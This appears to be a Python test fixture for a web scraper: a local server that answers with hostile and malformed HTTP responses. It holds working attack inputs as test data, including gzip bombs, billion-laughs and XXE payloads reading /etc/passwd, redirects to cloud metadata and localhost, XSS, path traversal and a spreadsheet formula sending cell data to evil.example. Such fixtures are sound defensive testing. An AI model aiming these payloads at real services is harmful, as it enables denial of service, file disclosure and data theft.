"""A portal that answers as hostile and broken servers do: on raw sockets, with the demo portal around it."""

from __future__ import annotations

import gzip
import html
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

from lapvo_scraper.demo import DemoPortal
from lapvo_scraper.demo.exchange import Request

OK = b"HTTP/1.1 200 OK\r\n"
TEXT = b"Content-Type: text/html; charset=utf-8\r\n"
PATIENCE = 30.0  # seconds that a drip or a hang lasts: far longer than the client's

EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Xem") \x1b[31m\x1b]0;pwned\x07 \u202egpj.exe <b>đậm</b> \x00'
PASSWORD = "root:x:0:0"

Answer = Callable[[socket.socket], None]


def whole(body: bytes, headers: bytes = TEXT, status: bytes = b"200 OK") -> Answer:
    head = b"HTTP/1.1 %s\r\n%sContent-Length: %d\r\n\r\n" % (status, headers, len(body))
    return lambda peer: peer.sendall(head + body)


def closing(data: bytes) -> Answer:
    """Say these very bytes and hang up."""

    def answer(peer: socket.socket) -> None:
        peer.sendall(data)
        raise ConnectionError

    return answer


def bomb(megabytes: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    return b"".join(packer.compress(zeros) for _ in range(megabytes)) + packer.flush()


def endless(start: bytes, more: bytes) -> Answer:
    def answer(peer: socket.socket) -> None:
        peer.sendall(start)
        until = time.monotonic() + PATIENCE
        while time.monotonic() < until:
            peer.sendall(more)
        raise ConnectionError

    return answer


def dripping(start: bytes, drop: bytes = b"") -> Answer:
    def answer(peer: socket.socket) -> None:
        peer.sendall(start)
        until = time.monotonic() + PATIENCE
        while time.monotonic() < until:
            time.sleep(0.2)
            peer.sendall(drop)
        raise ConnectionError

    return answer


def reset(peer: socket.socket) -> None:
    peer.sendall(OK + b"Content-Length: 5000\r\n\r\n<html>")
    time.sleep(0.05)  # else the reset overtakes the bytes
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    raise ConnectionError


def moved(target: str) -> Answer:
    return whole(b"", b"Location: %s\r\n" % target.encode(), b"302 Found")


def packed(body: bytes, encoding: bytes = b"gzip") -> Answer:
    return whole(body, TEXT + b"Content-Encoding: %s\r\n" % encoding)


ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
LAUGHS = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{ENTITIES}]><urlset><url><loc>&e11;</loc></url></urlset>'
PASSWD = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    '<rss version="2.0"><channel><item><title>&f;</title><link>&f;</link></item></channel></rss>'
)
XML = b"Content-Type: application/xml\r\n"


def scenarios(secret: str) -> dict[str, Answer]:
    """Every hostile answer, by path. `secret`: a server on another port of this machine, never to be asked."""
    page = "<html><head><title>Trang</title></head><body>{}</body></html>"
    links = "".join(
        f'<a href="{html.escape(target)}">x</a><img src="{html.escape(target)}">'
        for target in (
            *("file:///etc/passwd", "javascript:alert(1)", "data:text/html,x", "ftp://127.0.0.1/x", f"{secret}/a"),
            *("http://169.254.169.254/latest/meta-data/", "http://[::1]/x", "//127.0.0.1:1/x", "http://["),
            f"http://demo@127.0.0.1:{secret.rpartition(':')[2]}/user",
        )
    )
    return {
        "/bomb": packed(bomb(100)),
        "/bomb-in-bomb": packed(gzip.compress(bomb(100)), b"gzip, gzip"),
        "/half-gzip": packed(gzip.compress(page.format("x" * 5000).encode())[:40]),
        "/no-gzip": packed(page.format("x").encode()),
        "/odd-encoding": packed(page.format("x").encode(), b"vietzip"),
        "/endless": endless(OK + TEXT + b"Transfer-Encoding: chunked\r\n\r\n", b"4000\r\n" + b"A" * 0x4000 + b"\r\n"),
        "/header-flood": endless(OK, b"X-Flood: " + b"v" * 60 + b"\r\n"),
        "/long-header": closing(OK + b"X-Long: " + b"A" * (1 << 20) + b"\r\n\r\n"),
        "/drip": dripping(OK + TEXT + b"Content-Length: 100000\r\n\r\n", b"x"),
        "/hang": dripping(b""),
        "/hang-after-head": dripping(OK + TEXT + b"Content-Length: 100\r\n\r\n"),
        "/reset": reset,
        "/no-http": closing(b"SSH-2.0-OpenSSH_9.2\r\n"),
        "/two-lengths": closing(OK + b"Content-Length: 5\r\nContent-Length: 7\r\n\r\nhello77"),
        "/bad-chunk": closing(OK + b"Transfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n"),
        "/short": closing(OK + TEXT + b"Content-Length: 5000\r\n\r\n<html>"),
        "/loop": moved("/loop"),
        "/loop-a": moved("/loop-b"),
        "/loop-b": moved("/loop-a"),
        "/to-file": moved("file:///etc/passwd"),
        "/to-secret": moved(f"{secret}/redirected"),
        "/to-metadata": moved("http://169.254.169.254/latest/meta-data/"),
        "/to-hex": moved(f"http://0x7f.1:{secret.rpartition(':')[2]}/hex"),
        "/to-script": moved("javascript:alert(1)"),
        "/to-nowhere": moved("http://["),
        "/links": whole(page.format(links).encode()),
        "/deep": whole(page.format("<div>" * 100_000).encode()),
        "/attributes": whole(page.format(f"<p {' '.join(f'a{n}=1' for n in range(40_000))}>x</p>").encode()),
        "/long-tag": whole(page.format(f'<p title="{"x" * 400_000}">x</p>').encode()),
        "/nul": whole(page.format("Lấp\0 Vò\0").encode()),
        "/wrong-charset": whole(page.format("Lấp Vò").encode(), b"Content-Type: text/html; charset=ISO-8859-1\r\n"),
        "/no-charset": whole(page.format("Lấp Vò").encode("utf-16"), b"Content-Type: text/html; charset=utf8mb4\r\n"),
        "/refresh": whole(b'<meta http-equiv="refresh" content="0;url=file:///etc/passwd">'),
        "/empty": whole(b""),
        "/soft-404": whole(page.format("SQLSTATE[HY000] [1040] Too many connections").encode()),
        "/sitemap.xml": whole(LAUGHS.encode(), XML),
        "/rss": whole(PASSWD.encode(), b"Content-Type: application/rss+xml\r\n"),
    }


@dataclass
class HostilePortal:
    """Serves `scenarios`, and the demo portal everywhere else; one of its articles is not what it seems."""

    secret: str
    portal: DemoPortal = field(default_factory=lambda: DemoPortal(articles=6, noise=False))
    asked: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._answers = scenarios(self.secret)
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.victim = self.portal.truth()[-1]
        threading.Thread(target=self._listen, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._listener.getsockname()[1]}"

    @property
    def paths(self) -> list[str]:
        return list(self._answers)

    def close(self) -> None:
        self._listener.close()

    def _listen(self) -> None:
        while True:
            try:
                peer, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(peer,), daemon=True).start()

    def _serve(self, peer: socket.socket) -> None:
        with peer:
            try:
                while head := _head(peer):
                    target = head.split(" ")[1]
                    self.asked.append(target)
                    self._answers.get(target.partition("?")[0], self._ordinary(target, head))(peer)
            except OSError:
                return

    def _ordinary(self, target: str, head: str) -> Answer:
        lines = (line.partition(":") for line in head.split("\r\n")[1:])
        headers = {name.lower(): value.strip() for name, _, value in lines if name != "Accept-Encoding"}
        answer = self.portal.answer(Request("GET", target, headers))
        said = "".join(f"{name}: {value}\r\n" for name, value in answer.headers if name != "ETag").encode()
        return whole(self._poisoned(answer.body), said, b"%d Said" % answer.status)

    def _poisoned(self, body: bytes) -> bytes:
        trick = "/documents/481990/0/..%2F..%2F..%2Ftmp%2Fpwned.pdf/4427bcc0-affa-4db3-5e8e-67636c9c0d17?t=1"
        script = f'<script>alert(1)</script><img src=x onerror=alert(1)><a href="{trick}">../../etc/passwd</a>'
        first = self.victim.blocks[0][1].encode()
        body = body.replace(self.victim.title.encode(), html.escape(EVIL_TITLE).encode())
        return body.replace(first, first + script.encode())


def _head(peer: socket.socket) -> str:
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        data = peer.recv(65536)
        if not data:
            return ""
        head += data
    return head.decode("latin-1")
